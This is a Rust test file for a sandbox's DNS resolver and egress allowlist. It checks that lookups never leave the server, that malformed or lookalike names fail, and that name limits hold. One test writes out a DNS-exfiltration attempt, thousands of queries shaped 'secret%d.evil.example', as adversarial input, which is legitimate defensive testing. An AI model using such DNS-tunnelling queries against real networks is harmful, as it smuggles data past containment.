//! Names: what the box's resolver answers, and what leaves the server.

use serde_json::json;
use stead_testkit::Outside;

use super::{DIAL, Networked, User, echo, nobody_was_reached, outside_cases, podman_cases};

outside_cases! {
    dns_never_leaves,
    answers_have_addresses_and_nothing_else,
    odd_names_are_no_names,
    wildcards_and_services_mean_what_they_say,
    etc_hosts_and_addresses_of_others_change_nothing,
    names_beyond_the_limit_are_refused_and_counted,
}

podman_cases! {
    dns_never_leaves,
    odd_names_are_no_names,
}

/// Python that sends a question to the box's resolver and prints the answer's code and records.
const ASK: &str = r#"
import socket, struct
def ask(name, kind=1, raw=None, tcp=False):
    labels = b"".join(bytes([len(l)]) + l for l in name)
    question = raw if raw is not None else b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\0" + struct.pack("!HH", kind, 1)
    if tcp:
        with socket.create_connection(("198.18.0.1", 53), 30) as s:
            s.sendall(struct.pack("!H", len(question)) + question)
            answer = s.recv(65535)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(30)
            s.sendto(question, ("198.18.0.1", 53))
            answer = s.recv(65535)
    return answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]
"#;

fn dns_never_leaves(outside: &Outside, user: User) {
    let networked = Networked::new(user);
    let session = networked.session(json!({"agent": {"allow": ["api.example", "*.wild.example"]}}));
    let code = format!(
        "{ASK}\nfor number in range(2000):\n    ask([b'secret%d' % number, b'evil', b'example'])\n    ask([b'secret%d' % number, b'wild', b'example'])\nprint(ask([b'api', b'example']))"
    );
    assert_eq!(networked.python(&session, &code), "(0, 1)\n");
    let asked = outside.log("dns");
    assert!(asked.iter().all(|line| line.starts_with("api.example ")), "{asked:?}");
    // The control: the allowed name was looked up.
    assert!(!asked.is_empty());
}

fn answers_have_addresses_and_nothing_else(_: &Outside, user: User) {
    let networked = Networked::new(user);
    let session = networked.session(json!({"agent": {"allow": ["api.example", "absent.example"]}}));
    let code = format!(
        "{ASK}\nname = [b'api', b'example']\nprint(*[ask(name, kind) for kind in [1, 28, 16, 65, 64, 255, 252]])\n\
         print(ask(name, tcp=True), ask([b'absent', b'example']), ask([b'other', b'example']))\n\
         print(ask([], raw=b'\\xab\\xcd\\x01\\x00' + b'\\0' * 8), ask([], raw=b'\\xab\\xcd\\x01\\x00\\x00\\x02' + b'\\0' * 6),\
         ask([], raw=b'\\xab\\xcd\\x01\\x00\\x00\\x01' + b'\\0' * 6 + b'\\xc0\\x0c\\0\\1\\0\\1'))"
    );
    let expected = "(0, 1) (0, 0) (0, 0) (0, 0) (0, 0) (0, 0) (0, 0)\n(0, 1) (3, 0) (0, 1)\n(1, 0) (1, 0) (1, 0)\n";
    assert_eq!(networked.python(&session, &code), expected);
    assert_eq!(networked.says(&session, "getent ahostsv4 api.example | grep -c '^198.18.'"), "3\n");
    assert_eq!(networked.says(&session, "getent ahostsv4 other.example | grep -c '^198.19.'"), "3\n");
}

fn odd_names_are_no_names(outside: &Outside, user: User) {
    let networked = Networked::new(user);
    let session = networked.session(json!({"agent": {"allow": ["api.example"]}}));
    let code = format!(
        "{ASK}\nfor name in [[b'api\\0', b'example'], [b'api.example'], [b'api example'], ['ａpi'.encode(), b'example'], [b'127'], [b'0x7f']]:\n    print(ask(name))"
    );
    let said = networked.python(&session, &code);
    assert!(!said.contains("1)"), "{said}");
    assert_eq!(said.lines().count(), 6, "{said}");
    nobody_was_reached(outside);
}

fn wildcards_and_services_mean_what_they_say(outside: &Outside, user: User) {
    let networked = Networked::new(user);
    outside.zone(json!({
        "a.wild.example": ["93.184.216.34"], "b.a.wild.example": ["93.184.216.34"], "wild.example": ["93.184.216.34"],
        "evilwild.example": ["93.184.216.34"], "a.wild.example.evil": ["93.184.216.34"],
    }));
    let session = networked.session(json!({"agent": {"allow": [echo("*.wild.example")]}}));
    let code = format!(
        "{DIAL}\nfor name in ['a.wild.example', 'B.A.Wild.Example', 'a.wild.example.', 'wild.example', 'evilwild.example', 'a.wild.example.evil', 'none.svc.stead']:\n    print(dial(name, 7000))"
    );
    let expected = "hello end\nhello end\nhello end\nECONNRESET\nECONNRESET\nECONNRESET\nECONNRESET\n";
    assert_eq!(networked.python(&session, &code), expected);
    assert_eq!(outside.log("connections").len(), 3);
}

fn etc_hosts_and_addresses_of_others_change_nothing(outside: &Outside, user: User) {
    let networked = Networked::new(user);
    let session = networked.session(json!({"agent": {"allow": [echo("db.example")]}}));
    let other = networked.server.session(json!({"agent_type": "net0"}));
    let address = networked.python(&other, "import socket; print(socket.gethostbyname('db.example'))");
    // The address means nothing in a box that has not asked for the name.
    let code = format!("{DIAL}\nprint(dial('{}', 7000))", address.trim());
    assert_eq!(networked.python(&session, &code), "ECONNRESET\n");
    // A name of the program's own for a real address is only an address.
    let code = format!(
        "{DIAL}\nsocket.getaddrinfo = lambda *a, **k: [(2, 1, 6, '', ('93.184.216.37', 7000))]\nprint(dial('db.example', 7000))"
    );
    assert_eq!(networked.python(&session, &code), "ECONNRESET\n");
    nobody_was_reached(outside);
    let code = format!("{DIAL}\nprint(dial('db.example', 7000))");
    assert_eq!(networked.python(&session, &code), "hello end\n");
}

fn names_beyond_the_limit_are_refused_and_counted(_: &Outside, user: User) {
    let networked = Networked::new(user);
    let session = networked.session(json!({"agent": {"allow": [echo("db.example")]}, "limits": {"names": 20}}));
    let code = format!("{ASK}\nprint([ask([b'n%d' % number, b'example']) for number in range(22)][18:])");
    assert_eq!(networked.python(&session, &code), "[(0, 1), (0, 1), (2, 0), (2, 0)]\n");
    assert_eq!(networked.refused(&session), ["n20.example:0 too_many_names", "n21.example:0 too_many_names"]);
}
